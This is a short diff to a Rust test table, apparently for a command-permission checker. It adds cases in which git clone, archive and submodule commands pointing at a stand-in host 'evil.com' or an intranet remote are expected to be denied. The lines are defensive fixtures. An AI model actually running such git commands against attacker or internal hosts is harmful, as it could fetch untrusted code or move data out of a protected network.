@@ -208,6 +208,10 @@ const CLIENT_FORMS: &[Case] = &[
     case(EVIL, B, "git fetch evil.com:x", Deny),
     case(EVIL, B, "git push evil.com:x main", Deny),
     case(EVIL, B, "git remote add o evil.com:x", Deny),
+    case(EVIL, B, "git clone evil.com:x", Deny),
+    case(INTRANET, B, "git clone -q intranet:r", Deny),
+    case(EVIL, B, "git archive --remote=evil.com:x HEAD", Deny),
+    case(EVIL, B, "git submodule add evil.com:x lib/x", Deny),
     case(EVIL, B, "git remote set-url origin evil.com:x", Deny),
     case(EVIL, B, "git config remote.origin.url evil.com:x", Deny),
     case(
